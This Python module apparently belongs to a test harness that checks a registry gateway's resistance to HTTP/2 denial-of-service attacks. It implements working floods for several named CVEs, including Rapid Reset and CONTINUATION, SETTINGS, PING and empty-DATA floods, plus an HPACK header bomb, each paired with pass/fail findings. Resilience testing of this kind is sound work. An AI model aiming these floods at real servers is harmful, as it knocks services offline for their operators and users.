"""Floods of HTTP/2 frames that cost the sender little."""

from attack import LOGIN, Attack
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, Http2, block, frame, reset, settings, text
from wire import address

# What is sent at once.
BATCH = 50


class Flood(Attack):
    """Four connections that send batches of frames, and connect again when they are thrown out."""

    connections = 4

    def attack(self) -> None:
        self.again(self.connections, self.flood)

    def flood(self, turn: int) -> None:
        connection = self.keep(Http2(self.gateway, address(turn), timeout=1))
        self.count("connections")
        while not self.is_over():
            for piece in self.batch(connection):
                connection.send(piece)
                self.count("sent", len(piece))
            if not self.reads(connection) or connection.goaway is not None:
                self.count("ended by the gateway")
                return connection.close()

    def reads(self, connection: Http2) -> bool:
        return connection.read(0.002)

    def pauses(self, connection: Http2) -> bool:
        """Reads nothing. Some 100,000 frames a second are a flood; more of them measure how fast a frame is read."""
        connection.socket.settimeout(1)
        self.rest(0.001)
        return True

    def batch(self, connection: Http2) -> list[bytes]:
        raise NotImplementedError


class RapidReset(Flood):
    """CVE-2023-44487: streams that are opened and reset at once."""

    name = "h2 rapid reset"

    def batch(self, connection):
        pieces = b""
        for _ in range(BATCH):
            stream, opened = connection.headers("GET", "/v2/app/bystander/manifests/1", LOGIN)
            pieces += opened + reset(stream)
        return [pieces]

    def findings(self):
        ended = self.counts.get("ended by the gateway", 0) + self.counts.get("thrown out", 0)
        return [("connections are ended", ended > 0, f"{ended} of {self.counts.get('connections', 0)}")]


class ContinuationFlood(Flood):
    """CVE-2024-27316: headers that never end."""

    name = "h2 CONTINUATION flood"

    def flood(self, turn):
        connection = self.keep(Http2(self.gateway, address(turn)))
        self.count("connections")
        opened = frame(HEADERS, END_STREAM, 1, block([(":method", "GET"), (":path", "/v2/")]))
        connection.send(opened)
        piece = frame(CONTINUATION, 0, 1, block([("x-more", "a" * 4000)] * 4))
        sent = 0
        while not self.is_over() and connection.read(0.001):
            connection.send(piece)
            sent += len(piece)
            self.counts["most"] = max(self.counts.get("most", 0), sent)
        connection.close()

    def findings(self):
        most = self.counts.get("most", 0)
        return [("headers end with 1 MiB", most < 1024 * 1024, f"{most // 1024} KiB")]


class SettingsFlood(Flood):
    """CVE-2019-9515: settings, each of which wants an answer that is never read."""

    name = "h2 SETTINGS flood"

    def batch(self, connection):
        return [settings({4: 65_535, 3: 100}) * BATCH]

    def reads(self, connection):
        return self.pauses(connection)


class PingFlood(Flood):
    """CVE-2019-9512: pings, whose answers are never read."""

    name = "h2 PING flood"

    def batch(self, connection):
        return [frame(PING, 0, 0, b"12345678") * BATCH]

    def reads(self, connection):
        return self.pauses(connection)


class EmptyFrames(Flood):
    """CVE-2019-9518: DATA frames without bytes, for an upload that never ends."""

    name = "h2 empty frames"
    quick = False

    def batch(self, connection):
        if connection.next == 1:
            fields = {**LOGIN, "Content-Type": "application/vnd.oci.image.manifest.v1+json"}
            connection.open("PUT", "/v2/direct/app/empty/manifests/1", fields, ends=False)
        return [frame(DATA, 0, 1) * BATCH]


class HeaderBomb(Flood):
    """Headers that take little room as they come, and much once they are read: one entry of the table, again and again."""

    name = "h2 header bomb"
    quick = False

    def batch(self, connection):
        # A literal that enters the dynamic table, and 4000 references to it of a byte each (RFC 7541, 6.1 and 6.2.1).
        content = block([(":method", "GET"), (":scheme", "https"), (":path", "/v2/")])
        content += b"\x40" + text("x") + text("a" * 3500) + b"\xbe" * 4000
        connection.next += 2
        return [frame(HEADERS, END_HEADERS | END_STREAM, connection.next - 2, content)]


ALL = [RapidReset, ContinuationFlood, SettingsFlood, PingFlood, EmptyFrames, HeaderBomb]
